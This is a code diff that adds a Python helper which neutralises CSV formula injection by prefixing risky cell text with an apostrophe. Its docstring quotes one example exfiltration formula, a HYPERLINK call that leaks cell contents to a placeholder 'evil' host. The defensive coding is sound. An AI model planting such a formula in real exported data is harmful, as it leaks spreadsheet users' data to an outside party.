@@ -116,3 +116,15 @@ def markdown_environment() -> jinja2.Environment:
 
 
 MARKDOWN_ENV: Final = markdown_environment()
+
+
+def spreadsheet_safe(text: str) -> str:
+    """A CSV cell's text a spreadsheet shows as text: one starting with ``= + - @``, a tab or a CR gets a ``'``.
+
+    A stored model id such as ``=HYPERLINK("http://evil/?"&A1,"x")`` was a live formula in Excel and Sheets
+    (CWE-1236, OWASP's CSV injection); numbers are written as numbers, never through this.
+    """
+    return f"'{text}" if text[:1] in _FORMULA_STARTS and text[:1] else text
+
+
+_FORMULA_STARTS: Final = frozenset("=+-@\t\r")
